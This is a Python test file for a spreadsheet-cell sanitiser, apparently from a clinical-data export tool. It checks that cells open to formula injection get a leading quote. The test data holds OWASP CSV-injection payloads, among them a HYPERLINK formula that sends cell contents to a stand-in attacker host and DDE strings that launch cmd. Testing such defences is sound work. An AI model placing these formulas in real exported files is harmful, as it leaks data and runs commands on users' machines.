"""The spreadsheet rule shared by the exports and the audit-trail CSV (edc/spreadsheet.py), checked
against OWASP's "CSV Injection" page: a cell beginning with = + - @, tab (0x09) or carriage return
(0x0D) is prefixed with a single quote; ASVS 5.0 (V1.2.10) adds NUL. The payloads are the ones the
page, CWE-1236 and the review quote."""

from __future__ import annotations

import pytest

from edc.spreadsheet import text_cell

OWASP_PAYLOADS = [
    "=1+2",
    '=HYPERLINK("http://attacker.example/?d="&A1,"Click")',
    "+1+2",
    "-2+3",
    "-1+cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "\0=1+2",
    "-",
]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_a_cell_that_could_run_as_a_formula_gets_a_leading_quote(payload: str) -> None:
    assert text_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["", "Headache", "72", "-2", "-12.5", "Rash, =1+2 inside", "'=1+2", " =1+2"])
def test_other_text_and_plain_negative_numbers_are_kept(value: str) -> None:
    """A plain negative number is read as that number by a spreadsheet and runs nothing."""
    assert text_cell(value) == value
